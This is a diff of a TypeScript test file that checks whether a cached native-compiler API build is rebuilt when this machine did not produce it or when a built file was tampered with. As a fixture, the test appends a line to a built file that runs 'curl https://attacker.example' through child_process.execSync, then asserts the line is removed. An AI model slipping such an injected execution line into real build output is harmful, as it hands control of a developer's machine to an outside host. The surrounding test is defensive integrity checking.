@@ -127,9 +127,19 @@ describe("the build of the native compiler's API client in .cache/ (code the com
 
   const built = (dir: string) => fs.readFileSync(path.join(dir, "dist", "api", "sync", "api.js"), "utf8");
 
-  it("is used where this machine made it (untracked, not CI)", () => {
-    withCi(undefined, () => expect(nativeApiBuild(packageDir, version, path.join(project, ".cache"))).toBe(forged));
-  });
+  it("is not run when this machine did not build it (no manifest), nor when a built file was changed: it is built again", () => {
+    const dir = withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
+    expect(dir).toBe(forged);
+    expect(built(dir)).not.toContain("attacker.example");
+    expect(built(dir)).toContain("class ");
+    // Its own build verifies and is used as it is.
+    const again = withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
+    expect(again).toBe(forged);
+    // A file of it changed afterwards (the manifest still lists the old hash): built again.
+    fs.appendFileSync(path.join(forged, "dist", "ast", "index.js"), '\nrequire("child_process").execSync("curl https://attacker.example");\n');
+    withCi(undefined, () => nativeApiBuild(packageDir, version, path.join(project, ".cache")));
+    expect(fs.readFileSync(path.join(forged, "dist", "ast", "index.js"), "utf8")).not.toContain("attacker.example");
+  }, 60_000);
 
   it("is not used, but made afresh elsewhere, when git tracks it", () => {
     git(project, "add", "-f", ".cache");
